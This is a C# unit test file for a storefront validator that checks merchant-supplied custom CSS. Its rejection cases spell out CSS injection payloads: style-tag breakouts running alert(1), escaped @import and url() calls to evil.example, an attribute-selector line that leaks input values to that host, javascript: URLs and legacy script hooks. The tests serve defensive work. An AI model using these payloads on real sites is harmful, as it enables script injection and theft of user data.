using Rendrix.Storefront;

namespace Rendrix.Tests.Storefront;

/// <summary>The merchant's own CSS: what the shop takes, and every known way around the rules.</summary>
public sealed class CustomCssTests
{
    [Theory]
    [InlineData("")]
    [InlineData(".hero h1 { font-style: italic; color: var(--accent) }")]
    [InlineData("@media (min-width: 700px) { .card { border: 1px solid } .card:hover { translate: 0 -2px } }")]
    [InlineData("@supports (display: grid) and (not (display: inline-grid)) { a::after { content: \"→ \\201C\" } }")]
    [InlineData("@container page (min-width:900px){.x{width:calc(100% - 2rem)}}")]
    [InlineData("@font-face { font-family: Own; src: url(/media/own.woff2) format('woff2') }")]
    [InlineData(".a { background: url(/media/a.png) } .b { background: url('#grad') } .c { background: url( \"data:image/png;base64,iVBO\" ) }")]
    [InlineData(".a { background-image: image-set(\"/media/a.avif\" 1x, '/media/a2.avif' 2x) }")]
    [InlineData("/* a comment with ; } and url(//x) */ .a{}")]
    [InlineData(".a > .b ~ .c + .d { } .e { & .f { color: red } }")]
    [InlineData("a[href^=\"https://\"] { padding-right: 1em }", true)]
    [InlineData(".x { content: \"Open: Monday\" }")]
    [InlineData("@layer extra { .x { inset: 0 } } @keyframes up { from { top: 0 } to { top: 1px } }")]
    [InlineData(".\\31 a { color: #FFF } #b { } .c\\:d { }")]
    public void Ordinary_rules_are_taken_as_they_are(string css, bool refused = false)
    {
        // A text that is an address of another host is refused even in a selector: a variable could carry it to where it is loaded.
        if (refused) { Assert.NotEmpty(CustomCss.Problems(css)); return; }
        Assert.Empty(CustomCss.Problems(css));
        Assert.True(ThemeTokens.Accepts("css", css));
    }

    [Theory]
    // Ending the element, however it is wrapped.
    [InlineData("</style><script>alert(1)</script>")]
    [InlineData(".a{content:\"</style>\"}")]
    [InlineData("/* </style><img src=x onerror=alert(1)> */")]
    [InlineData(".a{background:url(</style>)}")]
    [InlineData("<!-- x -->")]
    // Other sheets.
    [InlineData("@import \"//evil.example/x.css\";")]
    [InlineData("@IMPORT url(/x.css);")]
    [InlineData("@\\69mport url(x.css);")]
    [InlineData("@im\\70 ort 'x';")]
    [InlineData("@charset \"utf-7\";")]
    [InlineData("@namespace url(http://www.w3.org/1999/xhtml);")]
    [InlineData("@document url(x) {}")]
    // Other hosts.
    [InlineData("a{background:url(https://evil.example/?x)}")]
    [InlineData("a{background:url(//evil.example/x)}")]
    [InlineData("a{background:url(\\2f\\2f evil.example)}")]
    [InlineData("a{background:url(/\\\\evil.example)}")]
    [InlineData("a{background:u\\72l(https://evil.example)}")]
    [InlineData("a{background:URL( 'HTTPS://evil.example' )}")]
    [InlineData("a{background:url(https:evil.example)}")]
    [InlineData("a{background:url('ht\\a tps://evil.example')}")]
    [InlineData("a{background:image-set(\"https://evil.example/x\" 1x)}")]
    [InlineData("a{background:-webkit-image-set(url(//evil.example/x) 1x)}")]
    [InlineData("a{--x:\"https://evil.example/x\";background:image-set(var(--x) 1x)}")]
    [InlineData("a{--x:\"//evil.example\";background:image-set(var(--x) 1x)}")]
    [InlineData("@font-face{font-family:x;src:url(https://evil.example/x.woff2)}")]
    [InlineData("input[value^=a]{background:url(https://evil.example/a)}")]
    [InlineData("a{cursor:url(data:text/html,<script>)}")]
    [InlineData("a{background:url(javascript:alert(1))}")]
    [InlineData("a{background:url(JAVA\\script:x)}")]
    // Old ways to run script.
    [InlineData("a{width:expression(alert(1))}")]
    [InlineData("a{-moz-binding:url(/x.xml#y)}")]
    [InlineData("a{beh\\61vior:url(/x.htc)}")]
    // What would swallow the rules after it.
    [InlineData(".a { color: red")]
    [InlineData(".a { color: red } }")]
    [InlineData(".a { content: \"open }")]
    [InlineData(".a { background: url(/x ")]
    [InlineData("/* open")]
    [InlineData(".a { color: rgb(1,2,3 }")]
    [InlineData(".a[b { }")]
    [InlineData(".a{color:red}\0")]
    [InlineData(".a{\u0001}")]
    public void Whatever_loads_runs_or_swallows_is_refused_with_its_line(string css)
    {
        var problems = CustomCss.Problems("\n" + css);
        Assert.NotEmpty(problems);
        Assert.Contains(problems, p => p.Line == 2 && p.Message.Length > 5);
        Assert.False(ThemeTokens.Accepts("css", css));
        // Stored JSON from anywhere is checked the same way.
        Assert.Equal("", ThemeTokens.Parse(System.Text.Json.JsonSerializer.Serialize(new { schema = 2, css })).CustomCss);
    }

    [Fact]
    public void It_has_a_limit_and_says_it()
    {
        Assert.Empty(CustomCss.Problems(new string(' ', CustomCss.MaxLength)));
        Assert.Contains("50,000", Assert.Single(CustomCss.Problems(new string(' ', CustomCss.MaxLength + 1))).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Nothing_that_is_typed_breaks_the_check()
    {
        var random = new Random(3);
        const string Letters = "abu rl(@\\\"'/*{};:<>!-#0\n)[].x";
        for (var i = 0; i < 20_000; i++)
        {
            var css = new string([.. Enumerable.Range(0, random.Next(60)).Select(_ => Letters[random.Next(Letters.Length)])]);
            var problems = CustomCss.Problems(css);
            Assert.True(problems.Count <= 40);
            if (problems.Count > 0) continue;
            Assert.DoesNotContain("</", css, StringComparison.Ordinal);
            Assert.DoesNotContain("@import", css, StringComparison.OrdinalIgnoreCase);
        }
    }
}
